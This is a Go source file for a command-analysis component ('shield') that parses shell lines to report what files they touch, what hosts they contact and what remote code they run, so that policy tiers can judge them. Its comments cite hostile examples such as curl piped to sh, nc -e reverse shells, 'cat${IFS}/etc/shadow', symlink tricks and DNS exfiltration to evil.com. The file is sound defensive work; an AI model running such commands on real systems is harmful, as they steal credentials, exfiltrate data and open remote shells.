package shield

import (
	"strings"

	"github.com/opx-dev/opx/shield/shellx"
)

// CommandFacts reads a shell command line (shellx.Parse) and returns what
// it does: the paths every simple command in it reads, writes and
// deletes, the requests it makes, the programs it runs, the literals its
// interpreter payloads carry, the code it runs that is not written in it,
// and what cannot be known. It judges nothing: the tiers do.
//
// It is pure (nothing on disk or in the environment is consulted) and
// bounded by shellx's limits; the model's own work is linear in the
// number of words, with short bounded look-ups around nested commands.
//
// # Paths
//
// Every path is absolute and cleaned by resolvePath, the one resolver
// (ResolvePath is it in the workspace): "~", $HOME and ~user are homes,
// /proc/*/root and /proc/self/cwd aliases are followed, an open
// descriptor (/dev/fd/N, /proc/*/fd/N) is an Unknown; a relative path is
// under the working directory, which starts at the
// workspace and follows cd, pushd, popd, "cd -" (unknown when the line
// sets CDPATH and the name is looked up in it) and the -C/--prefix/
// --chdir options of git, make, tar, npm and env, separately in each
// nesting (a cd inside $(...) or bash -c does not leave it; a cd inside a
// function body makes the directory of what follows unknown). Subshells
// are nestings of their own (shellx Via "(N)"): a cd in "(cd x; ...)"
// does not leave it. `cd "$(git rev-parse --show-toplevel)"`
// is the workspace.
//
// A word with Glob stays a pattern (Ref.Glob; cleaned, metacharacters
// kept, ".." applied lexically). Recursive actions (rm -r, cp -r, grep -r,
// chmod -R, find -delete, a copy's or move's destination, which may be a
// directory) carry Tree. Listing (ls, find without actions, stat, du) is
// a Read of the named path without Tree; reading content beneath it
// (grep -r, tar c, cp -r) is a Read with Tree.
//
// # What cannot be known
//
// A path computed at run time (a Dynamic word) or relative to a working
// directory computed at run time gives an Unknown reason, whether it is
// read, written or deleted, plus, when the word starts with a known
// directory (/etc/$X, ~/.ssh/$K), a Ref for everything beneath it
// (Glob "/etc/*", Tree) so the rules can still block what it could name.
// Two computed forms are understood instead: a word that is exactly a
// command substitution whose output is a list of paths from a known
// lister (find ROOTS, ls, git ls-files, grep -l, fd, echo and printf of
// literal paths, printf's format being output and %s/%b its arguments),
// through filters that pass whole lines on unchanged (sort, uniq, head
// and tail -n, grep without -o, -c, -n...; head -c, cut, tr, sed and the
// like change the text, and the list is then unknown; so is an empty
// one), and the
// arguments xargs and find -exec pass, which name what the producer lists:
// both become Refs for the lister's roots, with Tree (so
// `find / -name x | xargs rm -f` deletes "/" Tree and `cat $(ls)` reads
// the working directory, Tree); inside the workspace, find's -name tests
// narrow them to "ROOT/**/PATTERN" (Glob). A process substitution (<(...), >(...))
// used as a file is a pipe, not a path: the commands inside carry their
// own facts. A program name computed at run time or given as a pattern,
// code piped into a shell from a producer shellx cannot read, a line that
// does not parse (or that the parser fails on), or a limit reached gives
// an Unknown. ${IFS} between words splits them (cat${IFS}/etc/shadow).
//
// # Links
//
// A link the line makes (ln -s TARGET LINK, ln, cp -s, cp -l) is followed
// by every later path of the line that starts with LINK (and LINK/NAME,
// for a LINK that may be a directory): `ln -s / r; cat r/etc/shadow`
// reads /etc/shadow. A link to a computed target makes those paths
// Unknown. Making the link reads its target (Tree for a symbolic one),
// writes it too when it is in the workspace (a later action may write
// through it), and is Unknown when it leads out of the workspace.
//
// # Command languages
//
// sed (e, r, R, w, W, s///e, s///w), awk (system, print > and |, getline
// < and |), sqlite3 (dot-commands, readfile, writefile, ATTACH...), the
// ex commands of vim, ex and ed (-c, +cmd, scripts on standard input),
// less +!cmd, man -P, zip -TT, make --eval, npx -c and npm exec: what
// they run is judged as a command line, what they read or write as
// paths; a script Shield cannot read (sed -f, awk -f, sqlite3 fed by a
// pipe or a file, vim -S) is Unknown.
//
// # Code run that the line does not hold (Facts.Execs)
//
// A shell or interpreter reading a pipe (curl URL | sh: Remote when a
// network tool feeds it), a process or command substitution (bash
// <(curl ...), eval "$(...)", source <(...)), a script or a tree a
// network tool wrote earlier in the line (curl -o x.sh URL && sh x.sh,
// git clone URL d && make -C d), a reverse shell (nc -e, socat EXEC:,
// an interpreter payload that connects a socket and spawns a shell), and
// packages installed from a host that is not the tool's registry (pip
// --index-url, pip install git+URL, npm install URL) are Execs. What
// tools run themselves is judged as their payload: go -exec/-toolexec,
// git -c core.sshCommand and other program settings, vim -c '!cmd',
// tmux send-keys, make -f /dev/stdin recipes, watch, flock, su -c.
//
// # Requests
//
// Hosts are lower case without port; a remote named by a git remote name
// (origin), a kubectl or docker context, or a computed URL has Host "".
// Method is the HTTP method; other kinds are "PUSH" (git push), "DNS"
// (dig, nslookup, host), "ICMP" (ping, traceroute), "" for raw
// connections (nc, ssh, telnet, scp), and "LISTEN" for a server that
// other machines can reach (python -m http.server, nc -l, socat
// TCP-LISTEN, php -S): its Host is the bind address ("0.0.0.0" unless
// given) and its Files the directory it serves. Package managers' installs
// are GET Requests to their registry (registry.npmjs.org, pypi.org,
// proxy.golang.org, crates.io, the docker registry, deb.debian.org);
// system package managers (apt, dnf, apk...) also write /usr, Tree.
// A remote added earlier in the line (git remote add NAME URL) names its
// host for git push NAME.
// Data is set for bodies, uploads, standard input, computed URLs,
// headers or names (dig $(cat x).evil.com), and Files names what a
// request sends: @file arguments, files read by the commands feeding its
// standard input or computing its arguments, the sources of scp and rsync
// uploads, literal paths an interpreter payload that also posts opens.
//
// # Other conventions
//
//   - The environment is a Read of /proc/self/environ (env, printenv, set,
//     export -p, declare -p).
//   - System changes are Writes of pseudo paths: kernel parameters and
//     firewall or routing tables under /proc/sys (sysctl -w, iptables,
//     nft, ip route add), kernel modules /sys/module (modprobe, insmod),
//     power state /proc/sysrq-trigger (shutdown, reboot, halt, poweroff,
//     init 0/6), devices (mkfs, dd of=/dev/sda, wipefs) as themselves.
//   - Persistence: crontab writes /var/spool/cron/crontabs (Tree), at and
//     batch /var/spool/cron/atjobs, systemctl enable /etc/systemd/system
//     (--user: ~/.config/systemd/user), user management /etc/passwd,
//     /etc/shadow, /etc/group, visudo /etc/sudoers, git config --global
//     ~/.gitconfig. A git config value that runs a command later
//     (core.hooksPath, core.sshCommand, core.pager, core.fsmonitor,
//     alias.X = !cmd, filter and diff drivers, credential.helper) is also
//     a Text with Source "git config KEY".
//   - Privilege wrappers (sudo, doas, su, pkexec, runuser, chroot) give a
//     Run of their own and the inner command is judged as usual; harmless
//     wrappers (env, nice, nohup, timeout, time, xargs, find -exec, ...)
//     give only the inner command's Run, whose Via names the wrapper.
//     docker run with --privileged, host namespaces or the docker socket
//     gives an Unknown (the container reaches the whole host).
//   - Commands run over ssh or inside a container (shellx Via "ssh HOST",
//     "docker", "kubectl") give their Runs, Requests, Execs and Texts, not
//     paths: those are another machine's.
//   - Text a command writes to a file (a here-document or here-string fed
//     to cat > f, tee f, dd of=f, crontab; echo/printf > f, escapes
//     decoded; the script of sed -i) is a Text with
//     Source "content:" + the path written; other here-document bodies are
//     Texts with Source "stdin". Interpreter string literals are Texts
//     with their shellx Source ("python -c"), awk programs "awk".
//   - An unknown program gives a Run, and its arguments that look like
//     paths (absolute, ~, ./, ../ or containing a slash) Reads: it may read
//     them; what it writes is for the tiers that judge unknown programs.
//     So do the arguments an interpreter passes to its script or code
//     (python3 x.py /etc/shadow, node -e CODE FILE).
//   - A path an interpreter payload builds from pieces (a path join or a
//     concatenation of literals, after a home API: os.path.join(
//     os.environ["HOME"], ".aws", "credentials"), "/et"+"c/shadow") is a
//     Ref when it names a sensitive piece or is written or deleted; a
//     sensitive piece that cannot be placed is an Unknown.
//   - A build file a network tool writes (curl -o Makefile, -o
//     package.json, -o conftest.py) makes its directory fetched code:
//     a build tool or test runner run there later is a remote Exec.
//   - declare, typeset and local with a flag other than -x, -r, -g
//     leave the variable unknown (shellx).
func (s *Shield) CommandFacts(line string) Facts { return s.CommandFactsIn(line, "") }

// CommandFactsIn is CommandFacts of a line that starts in the directory
// cwd, as a tool gives it (relative to the workspace, "~", or absolute;
// "" is the workspace). shellx.Parse reports a parser failure as an
// error of the Analysis, which becomes an Unknown.
func (s *Shield) CommandFactsIn(line, cwd string) Facts {
	dir := s.cfg.Workspace
	if cwd != "" {
		dir = s.ResolvePath(cwd)
	}
	a := shellx.Parse(line)
	return s.analysisFacts(&a, dir, 0)
}

// analysisFacts is CommandFacts of a parsed line whose commands start in
// cwd, depth payloads deep.
func (s *Shield) analysisFacts(a *shellx.Analysis, cwd string, depth int) Facts {
	var f Facts
	m := newModel(s, a, &f, cwd, depth)
	m.run()
	return f
}

// model turns one Analysis into Facts.
type model struct {
	s     *Shield
	a     *shellx.Analysis
	f     *Facts
	depth int
	cur   int    // the command being judged
	start string // the working directory the line starts in; "" unknown

	cwds  []viaDir   // the working directory of each nesting (Via) seen
	at    []string   // the working directory each command ran in
	reads [][]string // the paths each command reads, for the requests it feeds
	// funcs are the functions the line defines (shellx lists their
	// bodies with Via "function NAME").
	funcs map[string]bool
	// fetched are paths network tools wrote in this line (curl -o x.sh):
	// running one runs remote code.
	fetched []fetchedPath
	// gitFetched: a git fetch from a URL ran earlier in the line (its
	// FETCH_HEAD is remote code).
	gitFetched bool
	pend       []pendingFiles
	// payloads are the interpreter payloads (python -c ...) by Source,
	// for the literals they hold.
	payloads []payload
	reqVia   []reqOrigin
	// remotes are git remotes the line adds (git remote add NAME URL):
	// name to host.
	remotes map[string]string
	// vars are variables the line assigns a computed value
	// (F=$(mktemp)): what "$F" names is what that computes.
	vars []assigned
	// links are the links the line made (ln -s T L): later paths
	// reach through them (commands_links.go).
	links      []link
	inLinkGlob bool // followLinks is adding what a pattern names through a link
	// pendStdin are the requests of the current command's /dev/tcp
	// redirections, whose Files are what the command reads.
	pendStdin []int
}

type viaDir struct{ via, dir, old string }

type assigned struct {
	name string
	val  shellx.Word
	cmd  int // the command that assigns it
}

// pendingFiles is a request whose arguments hold command substitutions:
// its Files are the reads of the commands inside them, which are listed
// after the command holding them.
type pendingFiles struct {
	req  int // index in Facts.Requests
	cmd  int // the command making the request
	text string
}

func newModel(s *Shield, a *shellx.Analysis, f *Facts, cwd string, depth int) *model {
	n := len(a.Commands)
	return &model{s: s, a: a, f: f, depth: depth, start: cwd, at: make([]string, n), reads: make([][]string, n)}
}

func (m *model) run() {
	for _, o := range m.a.Opaque {
		m.unknown(o)
	}
	if m.a.Err != nil {
		m.unknown("the command cannot be parsed: " + m.a.Err.Error())
	}
	for i := range m.a.Commands {
		for _, seg := range strings.Split(m.a.Commands[i].Via, " > ") {
			if name, ok := strings.CutPrefix(seg, "function "); ok {
				if m.funcs == nil {
					m.funcs = map[string]bool{}
				}
				m.funcs[name] = true
			}
		}
	}
	for i := range m.a.Commands {
		m.cur = i
		if c := &m.a.Commands[i]; len(c.Args) > 0 && calls(c.Via, c.Args[0].Text) {
			m.unknown("function " + c.Args[0].Text + " calls itself: endless recursion, or a fork bomb")
		}
		m.command(i)
	}
	m.cur = len(m.a.Commands)
	for _, p := range m.pend {
		m.fillFiles(p)
	}
	m.literals()
}

// calls reports whether a command named name, nested in via, is in the
// body of a function of that name.
func calls(via, name string) bool {
	return strings.HasSuffix(via, "function "+name) || strings.Contains(via, "function "+name+" > ")
}

func (m *model) unknown(reason string) {
	for _, u := range m.f.Unknown {
		if u == reason {
			return
		}
	}
	m.f.Unknown = append(m.f.Unknown, reason)
}

// dir returns the working directory of the nesting via ("" unknown),
// inheriting its parent's the first time it is seen.
func (m *model) dir(via string) *viaDir {
	for i := range m.cwds {
		if m.cwds[i].via == via {
			return &m.cwds[i]
		}
	}
	d := m.start
	if via != "" {
		parent := ""
		if k := strings.LastIndex(via, " > "); k >= 0 {
			parent = via[:k]
		}
		d = m.dir(parent).dir
	}
	m.cwds = append(m.cwds, viaDir{via: via, dir: d, old: d})
	return &m.cwds[len(m.cwds)-1]
}

// elsewhere reports whether a Via runs its commands on another machine
// or in a container (shellx: "ssh HOST", "docker", "kubectl", "oc").
func elsewhere(via string) bool {
	for via != "" {
		part := via
		if k := strings.Index(via, " > "); k >= 0 {
			part, via = via[:k], via[k+3:]
		} else {
			via = ""
		}
		if strings.HasPrefix(part, "ssh ") || part == "docker" || part == "kubectl" || part == "oc" {
			return true
		}
	}
	return false
}

// lastVia is the innermost part of a Via.
func lastVia(via string) string {
	if k := strings.LastIndex(via, " > "); k >= 0 {
		return via[k+3:]
	}
	return via
}

func joinVia(a, b string) string {
	if a == "" {
		return b
	}
	if b == "" {
		return a
	}
	return a + " > " + b
}

// command adds the facts of command i.
func (m *model) command(i int) {
	c := &m.a.Commands[i]
	switch v := lastVia(c.Via); {
	case v == "xargs" || strings.HasPrefix(v, "find -"):
		// The xargs and find -exec handlers judge these with what
		// they act on.
		m.at[i] = m.dir(c.Via).dir
		return
	}
	if elsewhere(c.Via) {
		// Run on another machine or in a container (ssh HOST CMD,
		// docker exec): its paths are not this machine's, but what it
		// sends and runs still leaves or enters from here.
		outer := m.f
		var tmp Facts
		m.f = &tmp
		nVia, nPend := len(m.reqVia), len(m.pend)
		x := &call{m: m, i: i, c: c, cwd: "/", via: c.Via, name: "redirect"}
		if len(c.Args) > 0 {
			m.dispatch(x, c.Args)
		}
		m.f = outer
		// Requests move to the outer facts: so do their indices.
		base := len(m.f.Requests)
		for k := nVia; k < len(m.reqVia); k++ {
			m.reqVia[k].req += base
		}
		for k := nPend; k < len(m.pend); k++ {
			m.pend[k].req += base
		}
		m.f.Runs = append(m.f.Runs, tmp.Runs...)
		m.f.Requests = append(m.f.Requests, tmp.Requests...)
		m.f.Execs = append(m.f.Execs, tmp.Execs...)
		m.f.Texts = append(m.f.Texts, tmp.Texts...)
		return
	}
	x := &call{m: m, i: i, c: c, cwd: m.dir(c.Via).dir, via: c.Via, name: "redirect"}
	m.at[i] = x.cwd
	x.redirectRefs()
	if len(c.Args) > 0 {
		m.dispatch(x, c.Args)
	}
	x.assigns()
	x.supplyAssigns()
	if len(c.Args) == 0 || isDecl(c.Args[0].Text) {
		for _, a := range c.Assigns {
			if a.Value.Dynamic {
				m.vars = append(m.vars, assigned{name: a.Name, val: a.Value, cmd: i})
			}
		}
	}
	for _, k := range m.pendStdin {
		x.fromStdin(k)
	}
	m.pendStdin = m.pendStdin[:0]
	x.redirectTexts()
	if x.chdir != nil {
		if strings.HasPrefix(lastVia(c.Via), "function ") {
			// The body runs wherever the function is called:
			// what follows the call is in an unknown directory.
			m.dir("").dir = ""
		}
		d := m.dir(c.Via) // (after any append m.dir does above)
		d.old, d.dir = d.dir, *x.chdir
	}
}

// call is one simple command being judged.
type call struct {
	m    *model
	i    int
	c    *shellx.Command
	cwd  string // "" unknown
	via  string
	name string        // the program's base name
	argv []shellx.Word // argv of the program, after wrappers
	args []shellx.Word // argv[1:]
	// input are what the arguments marked inputWord name (xargs' and
	// find -exec's), and inputKnown whether they are known.
	input      []Ref
	inputKnown bool
	// sinks are paths the command writes its input or arguments to,
	// for the Texts of here-documents and echo.
	sinks []string
	chdir *string // set by cd: the new working directory ("" unknown)
}

// inputWord stands for the paths xargs or find -exec pass to a command.
const inputWord = "\x00input"

// run adds the Run of the current program. A call of a function the
// line defines runs no program of its own: its body's are judged.
func (x *call) run() {
	if len(x.argv) > 0 && x.m.funcs[x.argv[0].Text] {
		return
	}
	x.m.f.Runs = append(x.m.f.Runs, Run{Name: x.name, Argv: wordTexts(x.argv), Line: x.c.Line, Via: x.via})
}

func wordTexts(ws []shellx.Word) []string {
	out := make([]string, len(ws))
	for i := range ws {
		if ws[i].Text == inputWord {
			out[i] = "{}"
			continue
		}
		out[i] = ws[i].Text
	}
	return out
}

// progName is the base name of a program as written ("/usr/bin/curl" and
// "\curl" are curl).
func progName(t string) string {
	t = strings.TrimLeft(t, `\`)
	if t == "" {
		return ""
	}
	if k := strings.LastIndexByte(t, '/'); k >= 0 {
		t = t[k+1:]
	}
	return t
}

// dispatch judges argv: peels wrappers, adds the Run and the program's
// facts.
// programComputed begins the Unknown of a program named by a word
// computed at run time (a variable).
const programComputed = "the program's name is computed at run time: "

func (m *model) dispatch(x *call, argv []shellx.Word) {
	argv = splitIFS(argv)
	for n := 0; len(argv) > 0 && n < 16; n++ {
		w := argv[0]
		if w.Glob && !w.Dynamic {
			x.name, x.argv, x.args = progName(w.Text), argv, argv[1:]
			x.run()
			m.unknown("the program is a pattern the shell expands at run time: " + w.Text)
			return
		}
		if w.Dynamic {
			x.name, x.argv, x.args = "", argv, argv[1:]
			x.run()
			m.unknown(programComputed + w.Text)
			return
		}
		name := progName(w.Text)
		if u := wrappers[name]; u != nil {
			inner, priv := u(x, argv[1:])
			if priv || len(inner) == 0 || inner[0].Text == inputWord {
				x.name, x.argv, x.args = name, argv, argv[1:]
				x.run()
			}
			if len(inner) == 0 {
				if h := table[name]; h != nil {
					h(x)
				}
				return
			}
			x.via = joinVia(x.via, name)
			argv = inner
			continue
		}
		if pr := projectRunners[name]; pr != nil {
			// rules 15: the runner is judged as itself, then the
			// program it runs as its own
			if inner := pr(x, argv[1:]); len(inner) > 0 && inner[0].Text != inputWord && !inner[0].Dynamic {
				m.program(x, name, w, argv)
				x.via = joinVia(x.via, name)
				argv = inner
				continue
			}
		}
		m.program(x, name, w, argv)
		return
	}
}

// program adds the Run of argv, a program by its name, and its facts.
func (m *model) program(x *call, name string, w shellx.Word, argv []shellx.Word) {
	x.name, x.argv, x.args = name, argv, argv[1:]
	if strings.Contains(w.Text, "/") && !systemBin(w.Text) {
		// ./x.sh, /tmp/payload: the program itself is a file read.
		x.ref(kRead, shellx.Word{Text: w.Text, Glob: w.Glob}, false)
		x.runsFile(w.Text)
	}
	x.run()
	x.loadsFetched()
	x.installsFetched()
	if h := servers[name]; h != nil {
		h(x)
	} else if h := table[name]; h != nil {
		h(x)
	} else {
		x.generic()
	}
	x.remoteSources()
	x.supplyCommand()
}

// systemBin reports whether a program path is in a system directory of
// programs (/usr/bin/curl is curl, not a script of the workspace).
func systemBin(p string) bool {
	for _, d := range []string{"/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/", "/opt/homebrew/bin/"} {
		if strings.HasPrefix(p, d) && !strings.Contains(p[len(d):], "/") {
			return true
		}
	}
	return false
}

// splitIFS splits words that hold $IFS or ${IFS} and nothing else
// computed where the shell would (cat${IFS}/etc/shadow is cat
// /etc/shadow): IFS is whitespace unless the line sets it.
func splitIFS(argv []shellx.Word) []shellx.Word {
	found := false
	for _, w := range argv {
		if w.Dynamic && strings.Contains(w.Text, "IFS") {
			found = true
		}
	}
	if !found {
		return argv
	}
	out := make([]shellx.Word, 0, len(argv)+2)
	for _, w := range argv {
		t := strings.ReplaceAll(strings.ReplaceAll(w.Text, "${IFS}", " "), "$IFS", " ")
		if !w.Dynamic || t == w.Text || strings.ContainsAny(t, "$`") {
			out = append(out, w)
			continue
		}
		for _, f := range strings.Fields(t) {
			out = append(out, shellx.Word{Text: f, Glob: w.Glob && strings.ContainsAny(f, "*?[")})
		}
	}
	return out
}

// generic is the model of a program not in the table: its path-looking
// arguments are Reads. That is sound for what the rules judge strictly
// (a credential or protected path named by any program is named, a read
// of anything else is allowed); what an unknown program writes or sends
// cannot be known from its words, and unknown programs are for tier 0.
func (x *call) generic() { x.argReads(x.args) }

// argReads adds a Read of each word of ws that looks like a path (an
// option's --name=value included): what an unknown program, or a script
// given them as arguments, may read.
func (x *call) argReads(ws []shellx.Word) {
	for _, w := range ws {
		if w.Text == inputWord {
			x.ref(kRead, w, true)
			continue
		}
		t := w.Text
		if v, ok := strings.CutPrefix(t, "--"); ok {
			// --config=~/.aws/credentials
			if _, val, eq := strings.Cut(v, "="); eq {
				t = val
			} else {
				continue
			}
		} else if strings.HasPrefix(t, "-") {
			continue
		}
		if looksLikePath(t) {
			x.ref(kRead, shellx.Word{Text: t, Dynamic: w.Dynamic, Glob: w.Glob}, false)
		}
	}
}

// fillFiles adds to a request the reads of the commands computing its
// arguments.
func (m *model) fillFiles(p pendingFiles) {
	c := &m.a.Commands[p.cmd]
	end := min(len(m.a.Commands), p.cmd+256)
	for j := p.cmd + 1; j < end; j++ {
		d := &m.a.Commands[j]
		if d.Depth < c.Depth || !strings.HasPrefix(d.Via, c.Via) || d.Via == c.Via {
			if d.Depth <= c.Depth && d.Via == c.Via {
				break
			}
			continue
		}
		if strings.Contains(p.text, d.Line) {
			r := &m.f.Requests[p.req]
			r.Files = appendNew(r.Files, m.reads[j]...)
			r.Data = true
		}
	}
}

func appendNew(list []string, add ...string) []string {
next:
	for _, a := range add {
		for _, l := range list {
			if l == a {
				continue next
			}
		}
		list = append(list, a)
	}
	return list
}

func isDecl(t string) bool {
	switch t {
	case "export", "local", "declare", "typeset", "readonly":
		return true
	}
	return false
}

// varRefs returns what a word that is exactly "$NAME" or "${NAME}" names
// when the line assigned NAME a command substitution whose output is
// known (see substRefs).
func (m *model) varRefs(t string) ([]Ref, bool) {
	name := strings.TrimPrefix(t, "$")
	if name == t {
		return nil, false
	}
	if strings.HasPrefix(name, "{") && strings.HasSuffix(name, "}") {
		name = name[1 : len(name)-1]
	}
	for k := len(m.vars) - 1; k >= 0; k-- {
		if v := m.vars[k]; v.name == name {
			return m.substRefs(v.cmd, v.val.Text)
		}
	}
	return nil, false
}

// assigns judges the variables a command sets that make programs load or
// run code: LD_PRELOAD and LD_AUDIT load a library into every program
// (Unknown: what it does cannot be known), BASH_ENV and ENV name a script
// shells run, and the *_COMMAND, pager, editor and askpass variables
// hold a command line.
func (x *call) assigns() {
	for _, a := range x.c.Assigns {
		v := a.Value
		switch a.Name {
		case "LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES":
			for _, p := range strings.FieldsFunc(v.Text, func(r rune) bool { return r == ':' || r == ' ' }) {
				x.ref(kRead, shellx.Word{Text: p, Dynamic: v.Dynamic}, false)
			}
			x.m.unknown(a.Name + " loads " + clipText(v.Text, 80) + " into the programs the command runs")
		case "BASH_ENV", "ENV":
			x.ref(kRead, v, false)
			x.runsFile(v.Text)
		case "GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_PAGER", "PAGER", "MANPAGER", "EDITOR", "VISUAL", "GIT_EDITOR",
			"GIT_ASKPASS", "SSH_ASKPASS", "SUDO_ASKPASS", "PROMPT_COMMAND", "GIT_PROXY_COMMAND", "LESSOPEN", "LESSCLOSE":
			if v.Text != "" {
				x.payload(v, a.Name+"=")
			}
		}
	}
}

// redirectRefs adds the paths the command's redirections read and
// write (before the program's own facts, so that a request's Files
// include what is redirected into it).
func (x *call) redirectRefs() {
	for i := range x.c.Redirects {
		r := &x.c.Redirects[i]
		t := r.Target.Text
		switch r.Op {
		case "<<", "<<-", "<<<":
			continue
		case ">&", "<&":
			if isFd(t) {
				continue
			}
		}
		if host, ok := devNet(t); ok {
			// bash's /dev/tcp/HOST/PORT: a connection, carrying what
			// the command reads and writes.
			x.netRedirect(host, r.Target)
			continue
		}
		switch {
		case r.Write:
			if quietDevice(t) || isFd(t) || strings.HasPrefix(t, ">(") {
				continue
			}
			x.ref(kWrite, r.Target, false)
			x.sink(r.Target)
		case r.Read:
			if strings.HasPrefix(t, "<(") || quietDevice(t) {
				continue
			}
			x.ref(kRead, r.Target, false)
			if len(x.c.Args) > 0 && shells[progName(x.c.Args[0].Text)] {
				x.runsFile(t)
			}
		}
	}
}

// redirectTexts adds the text here-documents and echo carry: the content
// of the files the command writes, or "stdin".
func (x *call) redirectTexts() {
	var docs []string
	for i := range x.c.Redirects {
		if r := &x.c.Redirects[i]; r.Op == "<<" || r.Op == "<<-" || r.Op == "<<<" {
			docs = append(docs, r.Target.Text)
		}
	}
	if (x.name == "echo" || x.name == "printf") && len(x.sinks) > 0 && len(x.args) > 0 {
		docs = append(docs, echoText(x.name, x.args))
	}
	for _, d := range docs {
		if len(x.sinks) == 0 {
			x.m.f.Texts = append(x.m.f.Texts, Text{Source: "stdin", Body: d})
			continue
		}
		for _, p := range x.sinks {
			x.m.f.Texts = append(x.m.f.Texts, Text{Source: "content:" + p, Body: d})
		}
	}
}

// echoText is the text echo or printf writes, escapes decoded (dash's
// echo decodes them too; a script's content is judged as it may land).
func echoText(name string, args []shellx.Word) string {
	if name == "printf" {
		if out, ok := printfText(args); ok {
			return out
		}
	}
	parts := make([]string, 0, len(args))
	for k, w := range args {
		if name == "echo" && k == 0 && (w.Text == "-e" || w.Text == "-n" || w.Text == "-ne" || w.Text == "-en") {
			continue
		}
		parts = append(parts, unescape(w.Text))
	}
	return strings.Join(parts, " ")
}

// devNet returns the host of bash's /dev/tcp/HOST/PORT or
// /dev/udp/HOST/PORT.
func devNet(t string) (string, bool) {
	rest, ok := strings.CutPrefix(t, "/dev/tcp/")
	if !ok {
		rest, ok = strings.CutPrefix(t, "/dev/udp/")
	}
	if !ok {
		return "", false
	}
	host, _, _ := strings.Cut(rest, "/")
	return hostOf(host), true
}

// netRedirect adds the connection a /dev/tcp redirection opens: its
// Files are what the command reads; a shell whose input or output is the
// connection is a remote shell.
func (x *call) netRedirect(host string, w shellx.Word) {
	k := x.request(Request{Host: host, Data: true})
	x.computed(k, w)
	x.m.pendStdin = append(x.m.pendStdin, k)
	if len(x.c.Args) > 0 && !x.c.Args[0].Dynamic && shells[progName(x.c.Args[0].Text)] {
		x.m.f.Execs = append(x.m.f.Execs, Exec{Runner: progName(x.c.Args[0].Text), From: "/dev/tcp", Remote: true, Line: x.c.Line})
	}
}

func isFd(t string) bool {
	if t == "-" {
		return true
	}
	for i := 0; i < len(t); i++ {
		if t[i] < '0' || t[i] > '9' {
			return false
		}
	}
	return t != ""
}

// quietDevice reports whether writing t changes nothing on disk.
func quietDevice(t string) bool {
	switch t {
	case "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/stdin", "/dev/zero", "/dev/random", "/dev/urandom":
		return true
	}
	return strings.HasPrefix(t, "/dev/fd/") || strings.HasPrefix(t, "/proc/self/fd/")
}
